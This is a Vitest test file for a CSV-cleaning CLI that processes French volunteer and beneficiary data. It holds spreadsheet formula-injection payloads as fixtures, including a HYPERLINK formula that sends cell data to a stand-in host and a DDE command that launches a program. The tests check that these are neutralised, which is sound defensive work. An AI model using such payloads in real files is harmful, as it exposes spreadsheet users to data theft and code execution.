import { copyFile, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { ExitCode } from "../src/exit-codes.js";
import type { Io } from "../src/io.js";
import { runCli } from "../src/program.js";
import { parseCsv } from "./parse-csv.js";

let dir = "";
beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), "solidata-cli-clean-"));
});
afterEach(async () => {
  await rm(dir, { recursive: true, force: true });
});

function fakeIo(
  env: Record<string, string | undefined> = { LANG: "en_GB.UTF-8" },
): Io & { out: string[]; err: string[] } {
  const out: string[] = [];
  const err: string[] = [];
  return { out, err, stdout: (t) => out.push(t), stderr: (t) => err.push(t), isTTY: false, env, cwd: dir };
}

const january = [
  "N° adhérent;Prénom;CP;Date de la mission;Mission;Nb d'heures;Notes",
  "A01;MARIE;1400;05/01/2024;Distribution alimentaire;2h;",
  'A02;paul;75 012;06/01/2024;Distrib. alimentaire;1,5;=HYPERLINK("http://x.invalid")',
  "A03;Léa;20000;31/02/2024;Accueil;3;",
  "A04;Jean;13001;07/01/2024;Accueil;-1;",
  "A05;Zoé;97100;;Accueil;1;",
].join("\r\n");
const february = [
  "N° adhérent;Prénom;CP;Date de la mission;Mission;Nb d'heures;Notes",
  "A01;Marie;01400;02/02/2024;Distrib. alimentaire;2;",
  "A06;JEAN;13001;03/02/2024;Distribution alimentaire;1h30;",
  "A07;Zoé;97100;04/02/2024;Accueil;45 min;",
].join("\r\n");

const readCsv = async (path: string): Promise<string[][]> =>
  parseCsv((await readFile(path, "utf8")).replace(/^\uFEFF/, ""));

describe("solidata clean", () => {
  it("writes the five files, with rows in = clean + quarantined + merged and a reason for each quarantined row", async () => {
    await writeFile(join(dir, "janvier.csv"), january);
    const io = fakeIo();
    expect(await runCli(["clean", "janvier.csv", "--out", "out"], io)).toBe(ExitCode.ok);
    const report = JSON.parse(await readFile(join(dir, "out", "clean-report.json"), "utf8"));
    expect(report.schema).toBe("volunteers");
    expect([report.rowsIn, report.rowsClean, report.rowsQuarantined, report.rowsMerged]).toEqual([5, 2, 3, 0]);
    // 31/02/2024 is a date the calendar does not have
    expect(report.byCode).toEqual({
      "clean.impossible_date": 1,
      "clean.negative_value": 1,
      "clean.required_missing": 1,
    });
    expect(report.changes).toContainEqual({ field: "first_name", operation: "name", cells: 2 });
    const clean = await readCsv(join(dir, "out", "clean.csv"));
    expect(clean[0]?.slice(0, 9)).toEqual([
      "person_id",
      "first_name",
      "postcode",
      "commune_code",
      "departement",
      "region",
      "activity_date",
      "activity",
      "hours",
    ]);
    expect(clean.slice(1).map((r) => r.slice(0, 9))).toEqual([
      ["A01", "Marie", "01400", "", "01", "84", "2024-01-05", "Distribution alimentaire", "2"],
      ["A02", "Paul", "75012", "75056", "75", "11", "2024-01-06", "Distribution alimentaire", "1.5"],
    ]);
    expect(clean[2]?.[9]).toBe(`'=HYPERLINK("http://x.invalid")`);
    const quarantine = await readCsv(join(dir, "out", "quarantine.csv"));
    expect(quarantine.slice(1).map((r) => [r[0], r[2]])).toEqual([
      ["4", "clean.impossible_date"],
      ["5", "clean.negative_value"],
      ["6", "clean.required_missing"],
    ]);
    const recipe = JSON.parse(await readFile(join(dir, "out", "recipe.json"), "utf8"));
    expect(recipe.format).toBe("solidata-recipe");
    expect(io.out.join("")).toBe(
      ["clean.csv", "quarantine.csv", "duplicates.csv", "recipe.json", "clean-report.json"]
        .map((f) => `${join(dir, "out", f)}\n`)
        .join(""),
    );
    expect(io.err.join("")).toMatch(/5 rows read: 2 clean, 3 quarantined, 0 merged as duplicates \(volunteers\)/);
    // labels surely one are merged by default ("Distrib. alimentaire"); --no-merge-labels keeps them as typed
    const kept = fakeIo();
    expect(await runCli(["clean", "janvier.csv", "--out", "kept", "--no-merge-labels"], kept)).toBe(ExitCode.ok);
    expect((await readCsv(join(dir, "kept", "clean.csv")))[2]?.[7]).toBe("Distrib. alimentaire");
    expect(kept.err.join("")).toMatch(/groups of label variants could be merged/);
  });

  it("re-applies a recipe to next month's file exactly as an interactive run does", async () => {
    await writeFile(join(dir, "janvier.csv"), january);
    await writeFile(join(dir, "fevrier.csv"), february);
    expect(await runCli(["clean", "janvier.csv", "--out", "jan", "--merge-labels"], fakeIo())).toBe(ExitCode.ok);
    const io = fakeIo({ LANG: "fr_FR.UTF-8" });
    expect(await runCli(["clean", "fevrier.csv", "--recipe", "jan/recipe.json", "--out", "feb"], io)).toBe(ExitCode.ok);
    expect(await runCli(["clean", "fevrier.csv", "--merge-labels", "--out", "feb2"], fakeIo())).toBe(ExitCode.ok);
    const replayed = await readFile(join(dir, "feb", "clean.csv"), "utf8");
    expect(replayed).toBe(await readFile(join(dir, "feb2", "clean.csv"), "utf8"));
    expect((await readCsv(join(dir, "feb", "clean.csv"))).slice(1).map((r) => r[7])).toEqual([
      "Distribution alimentaire",
      "Distribution alimentaire",
      "Accueil et orientation", // the activity vocabulary's label for "Accueil"
    ]);
    const report = JSON.parse(await readFile(join(dir, "feb", "clean-report.json"), "utf8"));
    expect(report.uncovered).toEqual([]);
    expect(io.err.join("")).toMatch(/3 lignes lues : 3 propres, 0 mises à l'écart, 0 fusionnées comme doublons/);
  });

  it("neutralises the spreadsheet-injection fixture and writes French Excel files with --excel", async () => {
    await copyFile(
      new URL("../../core/test/fixtures/clean/injection.csv", import.meta.url),
      join(dir, "injection.csv"),
    );
    const io = fakeIo();
    expect(
      await runCli(["clean", "injection.csv", "--schema", "beneficiaries", "--excel", "--out", "x", "--json"], io),
    ).toBe(ExitCode.ok);
    const raw = await readFile(join(dir, "x", "clean.csv"), "utf8");
    expect(raw.startsWith("\uFEFFlast_name;phone;")).toBe(true);
    const rows = parseCsv(raw.slice(1), ";");
    const header = rows[0] as string[];
    const comment = header.indexOf("Commentaire");
    const phone = header.indexOf("phone");
    const amount = header.indexOf("Montant");
    expect(rows.slice(1).map((r) => r[comment])).toEqual([
      `'=HYPERLINK("http://exemple.invalid/?d="&A1;"cliquez")`,
      "+33612345678",
      "'-2+3",
      "'@SUM(1)",
      "'\tcaché",
      "'=1+1\r\nseconde ligne",
      "' =cmd|' /C calc'!A0",
      "'\r=2+5",
    ]);
    expect(rows.slice(1, 4).map((r) => r[phone])).toEqual(["+33612345678", "+33612345678", "+33612345678"]);
    expect(rows.slice(1).map((r) => r[amount])).toEqual(["12,5", "3", "-4", "0", "1", "2", "5", "6"]);
    const printed = JSON.parse(io.out.join(""));
    expect(printed.report.rowsIn).toBe(8);
    expect(printed.paths.clean).toBe(join(dir, "x", "clean.csv"));
  });

  it("leaves with a clear message and the right exit code when something is wrong", async () => {
    await writeFile(join(dir, "a.csv"), january);
    await writeFile(join(dir, "odd.csv"), "foo;bar\n1;2\n");
    await writeFile(join(dir, "bad.json"), "{ not json");
    await writeFile(join(dir, "old.json"), JSON.stringify({ format: "solidata-recipe", version: 99 }));
    const cases: [string[], number, RegExp][] = [
      [["clean", "absent.csv"], ExitCode.noInput, /absent\.csv does not exist/],
      [["clean", "a.csv", "--schema", "people"], ExitCode.usage, /unknown schema "people"/],
      [["clean", "a.csv", "--recipe", "bad.json"], ExitCode.config, /bad\.json is not valid JSON/],
      [["clean", "a.csv", "--recipe", "old.json"], ExitCode.config, /old\.json is not a solidata recipe: version/],
      [["clean", "a.csv", "--map", "none.json"], ExitCode.noInput, /none\.json does not exist/],
      [["clean", "odd.csv"], ExitCode.config, /odd\.csv: the kind of table could not be recognised/],
    ];
    for (const [argv, code, message] of cases) {
      const io = fakeIo();
      expect(await runCli(argv, io), argv.join(" ")).toBe(code);
      expect(io.err.join("")).toMatch(message);
      expect(io.err.join("")).not.toMatch(/\n\s+at /);
    }
  });

  it("applies a mapping file over the automatic choices", async () => {
    await writeFile(join(dir, "a.csv"), january);
    await writeFile(join(dir, "map.json"), JSON.stringify({ Notes: "site", Prénom: null }));
    expect(await runCli(["clean", "a.csv", "--map", "map.json", "--out", "o"], fakeIo())).toBe(ExitCode.ok);
    const recipe = JSON.parse(await readFile(join(dir, "o", "recipe.json"), "utf8"));
    expect(recipe.columns).toContainEqual(expect.objectContaining({ header: "Notes", field: "site", method: "user" }));
    expect(recipe.columns).toContainEqual(expect.objectContaining({ header: "Prénom", field: null, method: "user" }));
  });

  it("stops with exit 5, in French, when the kind is uncertain, and cleans once --schema is given", async () => {
    await writeFile(join(dir, "communes.csv"), "Commune\nLyon\nParis\nLille\n");
    const io = fakeIo({ LANG: "fr_FR.UTF-8" });
    expect(await runCli(["clean", "communes.csv"], io)).toBe(ExitCode.config);
    expect(io.err.join("")).toMatch(/communes\.csv : le type de ce tableau est incertain .*candidats : .*--schema/);
    expect(await runCli(["clean", "communes.csv", "--schema", "sites"], fakeIo())).toBe(ExitCode.ok);
  });

  it("reads a directory of social centres as sites, and keeps Belgian postcodes with --country BE", async () => {
    await copyFile(
      new URL("../../core/test/fixtures/fr/made_centres_sociaux.csv", import.meta.url),
      join(dir, "centres.csv"),
    );
    const io = fakeIo();
    expect(await runCli(["clean", "centres.csv", "--out", "out"], io)).toBe(ExitCode.ok);
    expect(io.err.join("")).toMatch(/\(sites\)/);
    await writeFile(
      join(dir, "be.csv"),
      "Nom;Adresse;CP;Ville\nResto A;Rue Haute 1;1000;Ixelles\nResto B;Rue 2;4000;Liège\nResto C;Quai 8;7500;Tournai\n",
    );
    expect(await runCli(["clean", "be.csv", "--out", "be", "--country", "BE"], fakeIo())).toBe(ExitCode.ok);
    const rows = await readCsv(join(dir, "be", "clean.csv"));
    const at = (rows[0] ?? []).indexOf("postcode");
    expect(rows.slice(1).map((r) => r[at])).toEqual(["1000", "4000", "7500"]);
    expect(await runCli(["clean", "be.csv", "--country", "Belgium"], fakeIo())).toBe(ExitCode.usage);
  });

  it("merges the sample's duplicate visits and lists each one in duplicates.csv, as the generator's truth says", async () => {
    const samples = new URL("../../../datasets/samples/fr/", import.meta.url);
    await copyFile(new URL("passages.csv", samples), join(dir, "passages.csv"));
    const io = fakeIo({ LANG: "fr_FR.UTF-8" });
    expect(await runCli(["clean", "passages.csv", "--merge-labels", "--out", "v"], io)).toBe(ExitCode.ok);
    const report = JSON.parse(await readFile(join(dir, "v", "clean-report.json"), "utf8"));
    expect(report.rowsClean + report.rowsQuarantined + report.rowsMerged).toBe(report.rowsIn);
    const rows = await readCsv(join(dir, "v", "duplicates.csv"));
    expect(rows[0]?.slice(0, 3)).toEqual(["line", "kept_line", "rule"]);
    expect(rows.length - 1).toBe(report.rowsMerged);
    const truth = (await readFile(new URL("truth/visits.csv", samples), "utf8")).trim().split("\n");
    const names = (truth[0] ?? "").split(",");
    const duplicateOf = new Map(
      truth.slice(1).map((l) => {
        const cells = l.split(",");
        return [cells[names.indexOf("line")], cells[names.indexOf("duplicate_of")]];
      }),
    );
    const right = rows.slice(1).filter((r) => duplicateOf.get(r[0] as string) === r[1]).length;
    // 31 rows written twice; 3 are missed (label variants left apart) and 1 coincidence is merged
    expect(right).toBeGreaterThanOrEqual(27);
    expect(right / (rows.length - 1)).toBeGreaterThanOrEqual(0.9);
    expect(io.err.join("")).toMatch(
      new RegExp(`3000 lignes lues : ${report.rowsClean} propres, 0 mises à l'écart, ${report.rowsMerged} fusionnées`),
    );
    expect(io.err.join("")).toMatch(/duplicates\.csv donne chaque ligne fusionnée/);
  });
});
